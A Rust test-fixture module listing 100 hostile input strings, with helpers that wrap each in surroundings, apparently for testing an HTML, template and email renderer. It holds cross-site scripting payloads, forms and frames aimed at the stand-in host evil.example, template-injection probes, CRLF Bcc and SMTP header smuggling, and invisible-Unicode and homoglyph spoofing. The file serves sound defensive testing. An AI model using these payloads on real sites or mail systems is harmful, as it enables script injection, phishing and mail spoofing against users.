//! What somebody may write who means harm, or whose keyboard slipped.

const PAYLOADS: [&str; 100] = [
    // elements and attributes
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT\n>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=\"javascript:alert(1)\">free</a>",
    "<a href=https://evil.example>Unsubscribe</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<form action=https://evil.example><input name=card></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<style>*{display:none}</style>",
    "<x style='background:url(https://evil.example)'>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<xmp>",
    "<!-- comment -->",
    "<!-- --!><script>alert(1)</script>",
    "<!--[if mso]><b>x</b><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?>",
    "<!doctype html><body>",
    "<b",
    "</",
    "</td></tr></table><h1>Your account is closed</h1>",
    "</title></style><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "` onload=alert(1)",
    "onmouseover=alert(1) x=",
    "\\\"><svg onload=alert(1)>",
    // what is markup once it is read twice
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;&#x3cb&#x3e",
    "&amp;lt;b&amp;gt;&quot;&apos;&nbsp;",
    "\\u003cscript\\u003e",
    "%3Cscript%3E%0d%0aBcc:%20evil@evil.example",
    "\u{ff1c}script\u{ff1e}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    // addresses
    "javascript:alert(1)//https://shop.example",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/%2e%2e",
    "../../../r/x?product=1#y",
    "@evil.example/",
    ".evil.example:99999/\\",
    // templates
    "{{ 7919 * 6841 }}",
    "{{7919*6841}}{{shop.name}}",
    "{{ shop }}",
    "{{ self.__class__ }}",
    "{% for x in range(99999) %}x{% endfor %}",
    "{% include \"layout.html.j2\" %}",
    "{% raw %}{{ 7919 * 6841 }}",
    "{# comment #}",
    "${7919*6841} #{7919*6841} <%= 7919*6841 %> [[7919*6841]] *{7919*6841}",
    "{points} %s %n %1$s {0}",
    // headers and MIME
    "a\r\nBcc: evil@evil.example",
    "a\nBcc: evil@evil.example\r\n\r\n<script>alert(1)</script>",
    "a\r\n Bcc: evil@evil.example",
    "a\u{2028}Bcc: evil@evil.example\u{2029}x",
    "a\u{85}Bcc: evil@evil.example\u{b}x\u{c}x",
    "a\r\n.\r\nMAIL FROM:<evil@evil.example>",
    ".",
    "..x",
    "a\n.\nQUIT",
    "a\r\n--boundary--\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
    "------=_Part_0_1.1--",
    "=?utf-8?B?PHNjcmlwdD4=?=",
    "=?utf-8?Q?=0D=0ABcc:_evil@evil.example?=",
    "=?us-ascii?q?a?= =?us-ascii?q?b?=",
    "=0D=0ABcc: evil@evil.example=",
    "\"Shop\" <evil@evil.example>, x@evil.example",
    "From evil@evil.example Thu Jan  1 00:00:00 1970",
    "-- \nUnsubscribe: https://evil.example/u",
    "> quoted\n>> twice",
    // what is not seen
    "\u{202e}elpmaxe.live//:sptth",
    "x\u{202a}\u{202b}\u{202d}\u{202c}\u{2066}\u{2067}\u{2068}\u{2069}\u{200e}\u{200f}\u{61c}",
    "a\u{0}b\u{1}\u{7}\u{8}\u{1b}[31m\u{7f}\u{80}\u{9f}",
    "x\u{feff}\u{200b}\u{200c}\u{200d}\u{2060}\u{fffe}\u{ffff}",
    "x\u{e0041}\u{e007f}\u{fff9}y\u{fffa}z\u{fffb}",
    // scripts
    "\u{430}pple \u{13a1}es\u{435}rv\u{435} \u{ff41}\u{ff42}",
    "Z̷̢̛͔a̶l̸g̵o̷ ",
    "e\u{301}\u{302}\u{303}\u{304}\u{306}\u{307}\u{308}\u{30a}\u{30b}\u{30c}\u{489}\u{20dd}",
    "👩‍👩‍👧‍👦🏳️‍🌈\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}",
];

/// Each payload alone, and in four surroundings.
#[allow(dead_code, reason = "not every test needs all of them")]
pub(crate) fn hostile() -> Vec<String> {
    let surrounded = |payload: &str| {
        [
            payload.to_owned(),
            format!("\"茶 {payload} '</b>\r\n{payload}"),
            format!("<{payload}>"),
            payload.repeat(500),
            format!("{}{payload}", "a".repeat(100_000)),
        ]
    };
    PAYLOADS.iter().flat_map(|payload| surrounded(payload)).collect()
}

/// Each payload alone.
#[allow(dead_code, reason = "not every test needs them without surroundings")]
pub(crate) fn alone() -> impl Iterator<Item = &'static str> {
    PAYLOADS.into_iter()
}
